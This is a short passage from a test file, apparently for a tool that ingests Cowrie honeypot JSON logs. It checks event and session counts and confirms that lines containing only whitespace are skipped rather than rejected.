    expect(report.events).toBe(6000)
    expect(report.sessions).toHaveLength(100)
    expect(report.rejects.total).toBe(0)
  })

  test("whitespace-only lines are ignored like empty lines, not rejected", async () => {
    const path = join(dir, "ws.json")
    writeFileSync(
      path,
      '{"eventid":"cowrie.session.connect","session":"abcabcabcabc","timestamp":"2024-04-01T00:00:00Z","src_ip":"192.0.2.1"}\n   \n\t\n'
    )
    const report = await ingest([path], { format: "auto" })
    expect(report.events).toBe(1)
    expect(report.rejects.total).toBe(0)
  })
})
